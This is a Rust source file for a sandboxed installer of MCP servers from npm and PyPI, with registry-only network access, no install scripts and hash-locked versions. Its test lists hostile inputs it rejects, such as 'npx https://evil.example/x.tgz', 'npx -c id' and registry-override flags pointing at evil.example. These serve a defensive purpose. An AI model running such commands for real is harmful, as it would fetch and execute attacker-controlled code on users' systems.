//! Servers from npm and PyPI: what `npx PACKAGE` and `uvx PACKAGE` stand for.
//!
//! Two phases, in two jails. The first, `osvm mcp install`, reaches the registry and nothing else, runs no script of a package, and writes
//! versions and hashes down in a lock. The second is the server: it reads what was installed and has only what it is declared to have.
//! A lock that is there is followed: the registry then has to serve the same bytes, or nothing is installed.

use std::{
    collections::BTreeMap,
    fs, io,
    path::{Path, PathBuf},
    process::Command,
    time::Duration,
};

use osvm_jail::{HostPort, Limits, Mount, Network, Spec, closure};
use serde_json::Value;
use tokio::io::AsyncReadExt;

use crate::{
    config::Server,
    launch::{self, Error, find},
};

/// How long an installation may take.
const SLOWEST: Duration = Duration::from_secs(300);
/// Memory of an installation, and how much of it its `/tmp` may take, bytes.
const MEMORY: u64 = 2 << 30;
const TMP: u64 = 1 << 30;
/// The certificates by which a registry is known, and the variables that name them.
const CERTIFICATES: &str = "/etc/ssl/certs/ca-certificates.crt";
const CERTIFICATE_VARIABLES: [&str; 2] = ["NODE_EXTRA_CA_CERTS", "PIP_CERT"];
/// What a lock is called in the folder of a package.
const NPM_LOCK: &str = "package-lock.json";
const PIP_LOCK: &str = "requirements.lock";

/// Where a package comes from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Registry {
    Npm,
    Pypi,
}

/// What `npx` or `uvx` is asked for.
#[derive(Debug, PartialEq)]
pub struct Package {
    registry: Registry,
    /// With a version, if one is named.
    spec: String,
    /// The program of the package; its only one, or the one of its name, without it.
    program: Option<String>,
    args: Vec<String>,
}

impl Package {
    /// The package that a command runs, if it runs one.
    ///
    /// # Errors
    /// When it is npx or uvx with options that are not understood here.
    pub fn of(command: &[String]) -> Result<Option<Self>, Error> {
        let (program, words) = match command.split_first() {
            Some((program, words)) => (program.rsplit('/').next().unwrap_or_default(), words),
            None => return Ok(None),
        };
        let (registry, from, quiet): (_, &[&str], &[&str]) = match program {
            "npx" => (Registry::Npm, &["-p", "--package"], &["-y", "--yes", "-q", "--quiet"]),
            "uvx" => (Registry::Pypi, &["--from"], &["-q", "--quiet"]),
            _ => return Ok(None),
        };
        let mut spec = None;
        let mut words = words.iter();
        while let Some(word) = words.next() {
            if let Some(name) = from.iter().find_map(|option| word.strip_prefix(option)) {
                let value =
                    if name.is_empty() { words.next().cloned() } else { name.strip_prefix('=').map(str::to_owned) };
                spec = Some(value.ok_or_else(|| Error::Declared(format!("{word} names no package")))?);
            } else if word.starts_with('-') {
                if !quiet.contains(&word.as_str()) {
                    return Err(Error::Declared(format!("{program} {word} is not supported here")));
                }
            } else {
                let args = words.cloned().collect();
                let (spec, program) = match spec {
                    Some(spec) => (spec, Some(word.clone())),
                    None => (word.clone(), None),
                };
                check(registry, &spec)?;
                return Ok(Some(Self { registry, spec, program, args }));
            }
        }
        Err(Error::Declared(format!("{program} names no package")))
    }

    /// Its name without a version.
    fn name(&self) -> &str {
        let end = match self.registry {
            Registry::Npm => self.spec.char_indices().skip(1).find(|(_, c)| *c == '@').map(|(at, _)| at),
            Registry::Pypi => self.spec.find(['=', '@', '[', '<', '>', '~', '!', ' ']),
        };
        &self.spec[..end.unwrap_or(self.spec.len())]
    }
}

/// A name and a version, and nothing that a package client would take for a path, a URL or an option.
fn check(registry: Registry, spec: &str) -> Result<(), Error> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._-@/=[],~^".contains(c);
    let scoped = spec.starts_with('@') == spec.contains('/') && spec.matches('/').count() <= 1;
    let fine = spec.chars().all(plain) && spec.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '@');
    if fine && (scoped && registry == Registry::Npm || !spec.contains('/')) && !spec.contains("..") {
        return Ok(());
    }
    Err(Error::Declared(format!("{spec:?} is no name of a package in a registry")))
}

/// Installs a server's package into `folder`, which is made or replaced. `allow` are further destinations, such as a mirror's address
/// that is not public. With `update`, an old lock is not followed.
///
/// # Errors
/// When it is no package, or the installation fails: what was there before is then as it was.
pub async fn install(
    monitor: &Path,
    folder: &Path,
    package: &Package,
    allow: &[String],
    update: bool,
) -> Result<(), Error> {
    let failed = |source| Error::Folder { path: folder.to_owned(), source };
    let fresh = folder.with_extension("new");
    let _ = fs::remove_dir_all(&fresh);
    fs::create_dir_all(&fresh).map_err(failed)?;
    let lock = match package.registry {
        Registry::Npm => NPM_LOCK,
        Registry::Pypi => PIP_LOCK,
    };
    // A lock of another package says nothing about this one.
    let same = fs::read_to_string(folder.join("package.spec")).is_ok_and(|spec| spec == package.spec);
    let locked = same && !update && folder.join(lock).is_file();
    if locked {
        for file in [lock, "package.json"].map(|name| (folder.join(name), fresh.join(name))) {
            if file.0.is_file() {
                fs::copy(file.0, file.1).map_err(failed)?;
            }
        }
    }
    let spec = match package.registry {
        Registry::Npm => npm(&fresh, package, locked)?,
        Registry::Pypi => pip(&fresh, package, locked)?,
    };
    let hosts: &[&str] = match package.registry {
        Registry::Npm => &["registry.npmjs.org:443"],
        Registry::Pypi => &["pypi.org:443", "files.pythonhosted.org:443"],
    };
    run(monitor, jailed(spec, &fresh, hosts, allow)?).await?;
    if package.registry == Registry::Pypi && !locked {
        lock_of_pip(&fresh)?;
    }
    fs::write(fresh.join("package.spec"), &package.spec).map_err(failed)?;
    let old = folder.with_extension("old");
    let _ = fs::remove_dir_all(&old);
    if folder.exists() {
        fs::rename(folder, &old).map_err(failed)?;
    }
    fs::rename(&fresh, folder).map_err(failed)?;
    let _ = fs::remove_dir_all(&old);
    Ok(())
}

/// What an installation runs, and what it reads.
struct Installer {
    argv: Vec<String>,
    read: Vec<PathBuf>,
    /// Folders of compiled modules.
    modules: Vec<PathBuf>,
}

fn npm(folder: &Path, package: &Package, locked: bool) -> Result<Installer, Error> {
    let client = fs::canonicalize(find("npm")?).map_err(|source| Error::Folder { path: "npm".into(), source })?;
    // …/npm/bin/npm-cli.js
    let home = client.parent().and_then(Path::parent).map(Path::to_owned).unwrap_or_default();
    let mut argv = vec![text(&find("node")?), text(&client), if locked { "ci" } else { "install" }.to_owned()];
    let options = ["--ignore-scripts", "--no-audit", "--no-fund", "--no-update-notifier", "--cache", "/tmp/cache"];
    argv.extend(options.map(str::to_owned));
    argv.extend(["--prefix".to_owned(), text(folder)]);
    if !locked {
        argv.extend(["--".to_owned(), package.spec.clone()]);
    }
    Ok(Installer { argv, read: vec![home], modules: Vec::new() })
}

fn pip(folder: &Path, package: &Package, locked: bool) -> Result<Installer, Error> {
    let python = Python::find()?;
    let mut argv = vec![text(&python.program), "-m".to_owned(), "pip".to_owned(), "install".to_owned()];
    // Wheels only: to build a package would be to run it.
    let options = ["--only-binary", ":all:", "--no-cache-dir", "--no-compile", "--disable-pip-version-check"];
    argv.extend(options.map(str::to_owned));
    argv.extend(["--progress-bar".to_owned(), "off".to_owned(), "--target".to_owned(), text(&folder.join("site"))]);
    if locked {
        argv.extend(["--require-hashes".to_owned(), "-r".to_owned(), text(&folder.join(PIP_LOCK))]);
    } else {
        argv.extend(["--report".to_owned(), text(&folder.join("report.json")), package.spec.clone()]);
    }
    let modules = vec![python.library.join("lib-dynload")];
    Ok(Installer { argv, read: vec![python.library, python.packages], modules })
}

fn jailed(installer: Installer, folder: &Path, hosts: &[&str], allow: &[String]) -> Result<Spec, Error> {
    let mount =
        |path: &Path, writable| Mount { source: path.to_owned(), target: path.to_owned(), writable, owned: true };
    let program = PathBuf::from(&installer.argv[0]);
    let mut mounts = vec![mount(folder, true)];
    mounts.extend(installer.read.iter().map(|path| mount(path, false)));
    let mut env = BTreeMap::from([("HOME".to_owned(), "/tmp".to_owned())]);
    if Path::new(CERTIFICATES).is_file() {
        mounts.push(mount(Path::new(CERTIFICATES), false));
        env.extend(CERTIFICATE_VARIABLES.map(|name| (name.to_owned(), CERTIFICATES.to_owned())));
    }
    mounts.dedup_by(|one, two| one.target == two.target);
    mounts.extend(closure(&program, &mounts)?);
    libraries(&installer.modules, &mut mounts);
    let allow = hosts.iter().copied().chain(allow.iter().map(String::as_str)).map(HostPort::parse);
    let allow = allow.collect::<Result<_, _>>().map_err(|error| Error::Declared(error.to_string()))?;
    let limits = Limits { memory: MEMORY, tmp: TMP, timeout: Some(SLOWEST), ..Limits::default() };
    let network = Network { allow, inbound: None };
    let spec = Spec { argv: installer.argv, env, mounts, limits, network, ..Spec::new(program) };
    spec.check().map_err(|error| Error::Declared(error.to_string()))?;
    Ok(spec)
}

async fn run(monitor: &Path, spec: Spec) -> Result<(), Error> {
    let mut child = launch::start(monitor, &spec).await?;
    drop(child.stdin.take());
    let mut said = String::new();
    if let Some(stdout) = &mut child.stdout {
        let _ = stdout.read_to_string(&mut said).await;
    }
    eprintln!("{}", said.trim_end());
    let ended = child.wait().await.map_err(Error::Monitor)?;
    if ended.success() { Ok(()) } else { Err(Error::Declared(format!("the installation ended with {ended}"))) }
}

/// `name==version --hash=sha256:…`, a line each, from pip's report.
fn lock_of_pip(folder: &Path) -> Result<(), Error> {
    let failed = |source| Error::Folder { path: folder.to_owned(), source };
    let report = fs::read(folder.join("report.json")).map_err(failed)?;
    let report: Value = serde_json::from_slice(&report).map_err(|error| failed(error.into()))?;
    let mut lines = String::new();
    for item in report["install"].as_array().into_iter().flatten() {
        let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
        let (name, version) = (text(&item["metadata"]["name"]), text(&item["metadata"]["version"]));
        let hash = text(&item["download_info"]["archive_info"]["hashes"]["sha256"]);
        if name.is_empty() || version.is_empty() || hash.is_empty() {
            return Err(failed(io::Error::other("pip's report has no hash for a package")));
        }
        lines.push_str(&format!("{name}=={version} --hash=sha256:{hash}\n"));
    }
    fs::write(folder.join(PIP_LOCK), lines).map_err(failed)?;
    fs::remove_file(folder.join("report.json")).map_err(failed)
}

/// The server as it is started: a package's own program, from where it was installed. Others are as they are.
///
/// # Errors
/// When it is a package that is not installed, or not this one.
pub(crate) fn resolve(name: &str, server: &Server, packages: &Path) -> Result<(Server, Vec<Mount>), Error> {
    let Some(package) = Package::of(&server.command)? else { return Ok((server.clone(), Vec::new())) };
    let folder = packages.join(name);
    let missing = || Error::Declared(format!("it is not installed: osvm mcp install {name}"));
    if fs::read_to_string(folder.join("package.spec")).ok().as_deref() != Some(&package.spec) {
        return Err(missing());
    }
    let mut resolved = server.clone();
    resolved.read.push(folder.clone());
    let mut mounts = Vec::new();
    match package.registry {
        Registry::Npm => {
            let module = folder.join("node_modules").join(package.name());
            let entry = entry(&module, &package).ok_or_else(missing)?;
            resolved.command = vec![text(&find("node")?), text(&entry)];
        }
        Registry::Pypi => {
            let python = Python::find()?;
            let site = folder.join("site");
            let program = site.join("bin").join(package.program.as_deref().unwrap_or(package.name()));
            if !program.is_file() {
                return Err(missing());
            }
            resolved.read.push(python.library.clone());
            resolved.env.entry("PYTHONPATH".to_owned()).or_insert_with(|| text(&site));
            libraries(&[python.library.join("lib-dynload"), site], &mut mounts);
            resolved.command = vec![text(&python.program), "-B".to_owned(), text(&program)];
        }
    }
    resolved.command.extend(package.args);
    Ok((resolved, mounts))
}

/// The file that a package of npm is started by.
fn entry(module: &Path, package: &Package) -> Option<PathBuf> {
    let text = fs::read_to_string(module.join("package.json")).ok()?;
    let manifest: Value = serde_json::from_str(&text).ok()?;
    let own = package.name().rsplit('/').next()?;
    let file = match &manifest["bin"] {
        Value::String(file) => file.as_str(),
        Value::Object(programs) => match &package.program {
            Some(program) => programs.get(program)?.as_str()?,
            None if programs.len() == 1 => programs.values().next()?.as_str()?,
            None => programs.get(own)?.as_str()?,
        },
        _ => return None,
    };
    let entry = fs::canonicalize(module.join(file)).ok()?;
    // A package cannot name a file outside itself.
    entry.starts_with(fs::canonicalize(module).ok()?).then_some(entry)
}

/// Python, its standard library, and where its pip is.
struct Python {
    program: PathBuf,
    library: PathBuf,
    packages: PathBuf,
}

impl Python {
    fn find() -> Result<Self, Error> {
        let ask = "import os, pip, sys, sysconfig; print(os.path.realpath(sys.executable)); \
                   print(sysconfig.get_path('stdlib')); print(os.path.dirname(os.path.dirname(pip.__file__)))";
        let told = Command::new(find("python3")?).args(["-I", "-c", ask]).output().map_err(Error::Monitor)?;
        let told = String::from_utf8_lossy(&told.stdout).into_owned();
        let mut lines = told.lines().map(PathBuf::from);
        match (lines.next(), lines.next(), lines.next()) {
            (Some(program), Some(library), Some(packages)) => Ok(Self { program, library, packages }),
            _ => Err(Error::Declared("python3 or its pip is not there".to_owned())),
        }
    }
}

/// Adds the libraries that modules in these folders name. A module whose libraries are not all there is not usable, and no error.
fn libraries(folders: &[PathBuf], mounts: &mut Vec<Mount>) {
    let mut open: Vec<PathBuf> = folders.to_vec();
    while let Some(folder) = open.pop() {
        for entry in fs::read_dir(&folder).into_iter().flatten().flatten() {
            let path = entry.path();
            let Ok(kind) = entry.file_type() else { continue };
            if kind.is_dir() {
                open.push(path);
            } else if path.extension().is_some_and(|kind| kind == "so") {
                let found = closure(&path, &[]).unwrap_or_default();
                mounts.extend(
                    found.into_iter().filter(|mount| !folders.iter().any(|folder| mount.target.starts_with(folder))),
                );
            }
        }
    }
    mounts.sort_by(|one, two| one.target.cmp(&two.target));
    mounts.dedup_by(|one, two| one.target == two.target);
}

fn text(path: &Path) -> String {
    path.display().to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(line: &str) -> Result<Option<Package>, Error> {
        Package::of(&line.split(' ').map(str::to_owned).collect::<Vec<_>>())
    }

    #[test]
    fn npx_and_uvx_name_a_package_its_program_and_its_arguments() {
        let package = |line: &str| of(line).unwrap().unwrap();
        let memory = package("npx -y @modelcontextprotocol/server-memory@1.2.3 --flag x");
        assert_eq!((memory.registry, memory.name()), (Registry::Npm, "@modelcontextprotocol/server-memory"));
        assert_eq!(
            (memory.spec.as_str(), memory.args),
            ("@modelcontextprotocol/server-memory@1.2.3", ["--flag", "x"].map(str::to_owned).to_vec())
        );
        assert_eq!(package("/usr/bin/npx --package=a b").program.as_deref(), Some("b"));
        let time = package("uvx mcp-server-time==2025.1 --local-timezone UTC");
        assert_eq!((time.registry, time.name()), (Registry::Pypi, "mcp-server-time"));
        assert_eq!(package("uvx --from a[cli]==1 b").name(), "a");
        assert!(of("/bin/npxx a").unwrap().is_none());
    }

    #[test]
    fn what_a_package_client_would_take_for_something_else_is_refused() {
        for line in [
            "npx",
            "npx -c id",
            "npx https://evil.example/x.tgz",
            "npx git+ssh://evil.example/x",
            "npx ./here",
            "npx ../there",
            "npx /abs/path",
            "npx a/b",
            "npx @a/../b",
            "npx --registry=https://evil.example a",
            "uvx --index-url https://evil.example a",
            "uvx --from",
            "uvx a/b",
            "uvx git+https://evil.example/x",
        ] {
            assert!(of(line).is_err(), "{line}");
        }
    }
}
